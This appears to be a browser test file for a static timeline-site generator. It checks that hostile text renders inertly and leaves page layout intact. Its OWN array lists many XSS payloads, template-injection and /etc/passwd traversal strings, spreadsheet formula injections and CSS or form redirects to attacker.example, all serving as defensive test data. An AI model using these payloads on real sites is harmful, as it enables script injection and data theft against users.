// Text is only ever text: sites whose titles, texts, quotations and names are attempts to run a
// script, to break out of an element or to push a page out of shape.

import { entry, toml } from "../sites.mjs";
import { readFileSync, readdirSync, statSync } from "node:fs";
import path from "node:path";

const RUN = "window.__x=1";
const OWN = [
  `<script>${RUN};alert(1)</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style></textarea></noscript></template></select></svg></math><script>${RUN}</script>`,
  `--></script><img src=x onerror=${RUN}>`,
  `<!--<script>${RUN}`,
  `]]><script>${RUN}</script>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<body onload=${RUN}><p onmouseover=${RUN} style=position:fixed;inset:0>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<base href="https://attacker.example/"><a href="e/">a</a>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<form action=https://attacker.example/><button>Send</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<style>*{display:none!important}</style>`,
  `<h1>`,
  `</main></body></html>`,
  `<plaintext>`,
  `<a href="javascript:${RUN}">follow</a>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `" autofocus onfocus=${RUN} style="animation:x" onanimationstart=${RUN} `,
  "` onclick=`" + RUN + "`",
  `javascript:${RUN}`,
  `JaVa\tScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62; &amp;amp; &quot;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `{{ 7 * 7 }} {% include "/etc/passwd" %} {# hidden #} \${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('${RUN}')()}}`,
  `{"@context":"x","name":"</script><script>${RUN}</script>"}`,
  `"},{"@type":"Event","url":"javascript:${RUN}`,
  `");${RUN};("`,
  `';${RUN};//`,
  `\\";${RUN};//\\`,
  `annals.index({});${RUN}`,
  `a\u2028${RUN}\u2029b`,
  `=HYPERLINK("https://attacker.example/?"&A1,"open")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `--t:red;position:fixed;inset:0;background:url(//attacker.example/x)`,
  `}*{display:none}/*`,
  `</style><style>body{background:url(https://attacker.example/x)}`,
  `url(javascript:${RUN}) expression(${RUN})`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\system32\\con`,
  `f0 f1 t0" class="vh`,
  `__proto__`,
  `constructor`,
  `hasOwnProperty toString`,
  `main`,
  `\u202egnirts desrever a si siht\u202c and on`,
  `\u2066\u2067\u2068 isolates that nothing ends`,
  `\u200f\u200e\u061c marks of direction`,
  `a\u0000b\u0001c\u0008d\u000be\u001bf\u007fg\u0085h`,
  `\ufeff\ufffe\uffff\ufdd0\ufffd\ufffc`,
  `\u200b\u200c\u200d\u2060\u00ad`,
  `\ud800 half of a pair`,
  `one byte \x80 \xff \xc0\xaf of a broken text`,
  `👩‍👩‍👧‍👦 🏳️‍🌈 👨🏽‍🚀 🇰🇷🇯🇵 1️⃣ 🧑‍🤝‍🧑`,
  `Z̷͔̃a̴̰̍l̶̺̀g̵͎̈o̸͙͗ ${"e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(40)}`,
  `กำกำกำ ${"ก็็็็็็็็็็".repeat(40)}`,
  `عنوان من اليمين إلى اليسار مع English و 1912`,
  `שלום "עולם" (1948)`,
  `日本語の題名が空白なしに長く続くとどうなるかを見るための文字列`.repeat(6),
  "X".repeat(600),
  "A-very-long-word-with-hyphens-".repeat(60),
  "W".repeat(40) + "\u200b" + "M".repeat(4000),
  `https://example.org/${"path/".repeat(150)}?a=1&b="c"`,
  `ﷺ`.repeat(100),
  `\t\n  \r\n  `,
  `-`,
  `0`,
  `NaN undefined null true`,
];

// How many strings an event holds: five in places of their own, the others as paragraphs.
const PARAGRAPHS = 9;
const HELD = 5 + 2 * PARAGRAPHS;

// A data folder in which every string is in every place that an event has (`step` 1), or each in
// one (`step` HELD), and in an article. All are in one month, so that few pages hold many.
function data(given, step) {
  const strings = given.map((text) => text.toWellFormed());
  const some = (at, count) => Array.from({ length: count }, (_, n) => strings[(at + n) % strings.length]);
  const known = (list) => list.filter((name) => /\S/u.test(name));
  const events = [];
  for (let at = 0; at < strings.length; at += step) {
    const [title, person, place, alias, source] = some(at, 5);
    events.push(entry("event", {
      title: /[^\s\p{C}]/u.test(title) ? title : `Untitled ${at}`,
      id: `string-${at}`,
      date: `1900-01-${`${events.length % 28 + 1}`.padStart(2, "0")}`,
      text: some(at + 5, PARAGRAPHS).join("\n\n"),
      note: some(at + 5 + PARAGRAPHS, PARAGRAPHS).join("\n\n"),
      people: known([person]),
      places: known([place]),
      aliases: known([alias]),
      themes: [`t${events.length % 12}`],
      sources: [{ title: /\S/.test(source) ? source : "None", url: `https://example.org/?q=${encodeURIComponent(source)}"'><script>` }],
    }));
  }
  const articles = [];
  const inArticle = Math.min(200, Math.ceil(strings.length / 4));
  for (let at = 0; at < strings.length; at += inArticle) {
    const [id, url, title, publisher, tag] = some(at, 5);
    const sentence = (text, n) => (n % 20 ? `${text}\n\n` : `The fair at ${text} opened on ${n / 20 + 1} May 2018.\n\n`);
    const text = strings.slice(at, at + inArticle).map(sentence).join("");
    articles.push({ id, url, title, publisher, lang: `en-${tag}`, date: "2019-03-15", text });
  }
  const title = (n) => strings[n % strings.length] || "None";
  const themes = Array.from({ length: 12 }, (_, n) => entry("theme", { id: `t${n}`, title: title(n) }));
  const eras = [0, 1, 2].map((n) => entry("era", { title: title(n + 12), date: `190${n}/190${n + 1}` }));
  return {
    "annals.toml": `[timeline]\ntitle = ${toml(title(1))}\ndescription = ${toml(title(2))}\nlang = "en"\n${themes.join("")}${eras.join("")}`,
    "events/all.toml": events.join(""),
    "articles/all.jsonl": articles.map((article) => JSON.stringify(article)).join("\n"),
  };
}

// What the pages of a document are made of, and what is wrong with it. Runs in the page.
function anatomy(documents) {
  const parser = new DOMParser();
  const parts = new Set();
  const faults = [];
  for (const { address, text } of documents) {
    const page = text === undefined ? document : parser.parseFromString(text, "text/html");
    for (const element of page.querySelectorAll("*")) {
      parts.add(element.localName);
      for (const { name, value } of element.attributes) {
        parts.add(`${element.localName} ${name}`);
        const link = ["href", "src", "action"].includes(name) && value.match(/^\s*([\w+.-]+):/)?.[1];
        if (link && !["http", "https"].includes(link)) faults.push(`${address}: ${name}=${value}`);
        if (name === "style" && !/^(--[a-z]+: ?[-\d.]+(; ?|$))*$/.test(value)) faults.push(`${address}: style=${value}`);
      }
      if (element.matches("script[type='application/ld+json']")) {
        try { JSON.parse(element.textContent); } catch (error) { faults.push(`${address}: ${error}`); }
      }
    }
    if (page.querySelectorAll("html, head, body, main").length !== 4) faults.push(`${address}: a second main`);
    const shown = page.querySelector("h1")?.textContent;
    if (address.includes("e/string-")) parts.add(`title ${address.match(/e\/string-([^/]*)/)[1]} ${shown}`);
  }
  return { parts: [...parts], faults };
}

const IS_TITLE = /^title (\d*) ([^]*)$/;

async function anatomyOf(page, site) {
  const found = { parts: new Set(), faults: [] };
  for (let at = 0; at < site.pages.length; at += 200) {
    const texts = site.pages.slice(at, at + 200).map((address) => ({ address, text: readFileSync(path.join(site.folder, address), "utf8") }));
    const { parts, faults } = await page.evaluate(anatomy, texts);
    parts.forEach((part) => found.parts.add(part));
    found.faults.push(...faults);
  }
  return found;
}

// Every page of the site has only such elements and attributes as those of friendly sites.
async function isMadeOfTheSame({ open, site, assert }, hostile) {
  const page = await open("about/dates/index.html", { javaScriptEnabled: false });
  const known = new Set();
  for (const name of ["demo", "long", "arabic"]) (await anatomyOf(page, await site(name))).parts.forEach((part) => known.add(part));
  const { parts, faults } = await anatomyOf(page, hostile);
  assert.deepEqual(faults, []);
  assert.deepEqual([...parts].filter((part) => !known.has(part) && !IS_TITLE.test(part)), [], "parts that only hostile pages have");
  return [...parts].map((part) => part.match(IS_TITLE)).filter(Boolean);
}

// What is seen of a text: without blanks, controls and what turns direction.
const seen = (text) => text.toWellFormed().replace(/[\s\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]/gu, "");

// Opens pages in one window, one after the other, and sees that nothing comes to life. The content may
// be so many pixels wider than the page, which cuts it.
async function lie(page, site, assert, addresses, most = 0) {
  const wide = [];
  for (const address of addresses) {
    await page.goto(site.served + address);
    assert.equal(await page.evaluate(() => globalThis.__x), undefined, address);
    for (const width of [390, 1280]) {
      await page.setViewportSize({ width, height: 900 });
      const overflow = await page.evaluate((most) => {
        const main = document.querySelector("main");
        return Math.max(document.documentElement.scrollWidth - innerWidth, main.scrollWidth - main.clientWidth - most);
      }, most);
      if (overflow > 0) wide.push(`${address} at ${width}: ${overflow} pixels too wide`);
    }
  }
  assert.deepEqual(wide, []);
}

// The strings of files and folders: lines of .txt and .bin, the strings of .json.
function read(given) {
  if (statSync(given).isDirectory()) return readdirSync(given).sort().flatMap((name) => read(path.join(given, name)));
  const text = () => readFileSync(given, "utf8");
  const strings = { ".txt": () => text().split("\n"), ".bin": () => text().split("\n"), ".json": () => JSON.parse(text()).flat() };
  return strings[path.extname(given)]?.() ?? [];
}

const own = (tools) => tools.build("hostile", () => data(OWN, 1));

// Of many pages that are alike one in so many; all pages of other kinds.
function some(pages, oneIn) {
  const alike = pages.filter((page) => /^(e|people|places|names|on)\/(?!index|part)/.test(page));
  const seldom = new Set(alike.filter((_, n) => n % oneIn));
  return pages.filter((page) => !seldom.has(page));
}

export const checks = {
  async "pages are made of the same elements as others, and titles are whole"(tools) {
    const titles = await isMadeOfTheSame(tools, await own(tools));
    tools.assert.ok(titles.length > OWN.length * 0.9, `${titles.length} titles`);
    for (const [, at, title] of titles) {
      if (!title.startsWith("Untitled")) tools.assert.equal(seen(title), seen(OWN[Number(at)]));
    }
  },

  ...Object.fromEntries([0, 1].map((half) => [`no page comes to life or out of shape (${half + 1} of 2)`, async (tools) => {
    const site = await own(tools);
    const page = await tools.open("index.html", { site });
    await lie(page, site, tools.assert, some(site.pages, 3).filter((_, n) => n % 2 === half));
  }])),

  async "results of a search and filters are text too"(tools) {
    const { open, assert } = tools;
    const site = await own(tools);
    const page = await open("search/index.html", { site });
    const known = new Set((await page.evaluate(anatomy, [{ address: "" }])).parts);
    ["li", "li class", "a", "a href", "a dir", "span", "span class", "div", "div hidden", "script", "script src"].forEach((part) => known.add(part));
    let found = 0;
    for (const text of ["script", "window", "attacker", "alert", "onerror", ...OWN.filter((_, n) => n % 8 === 0)]) {
      for (const address of [`search/index.html?${new URLSearchParams({ q: text.toWellFormed() })}`, `search/index.html?theme=${encodeURIComponent(text.toWellFormed())}&from=1`]) {
        await page.goto(site.served + address);
        await page.waitForFunction(() => document.querySelector("#told").textContent || document.querySelector("#found").hidden);
        const { parts, faults } = await page.evaluate(anatomy, [{ address }]);
        assert.deepEqual([faults, parts.filter((part) => !known.has(part))], [[], []], address);
        assert.equal(await page.evaluate(() => globalThis.__x), undefined, address);
        found += await page.locator("#found li").count();
      }
    }
    assert.ok(found > 50, `${found} results`);
    await page.goto(`${site.served}index.html?hide=${encodeURIComponent(OWN[0])}.f1.%22%3E#"><script>`);
    assert.equal(await page.locator(".filters input").nth(1).isChecked(), false);
    for (const box of await page.locator(".filters input").all()) await box.uncheck({ force: true });
    assert.match(page.url(), /\?hide=[f\d.]+#/);
    assert.equal(await page.evaluate(() => globalThis.__x), undefined);
  },

  // Many strings on few pages: all pages are taken apart, and those with most of the strings opened.
  async "the strings that were given are text"(tools) {
    const strings = tools.strings.flatMap(read);
    if (!strings.length) return;
    const site = await tools.build("given", () => data(strings, HELD));
    await isMadeOfTheSame(tools, site);
    const opened = some(site.pages, 20);
    const page = await tools.open("index.html", { site });
    // Letters for which a machine has no font can be as wide as they like.
    await lie(page, site, tools.assert, opened, Infinity);
    console.log(`      ${strings.length} strings on ${site.pages.length} pages, ${opened.length} of them opened`);
  },
};
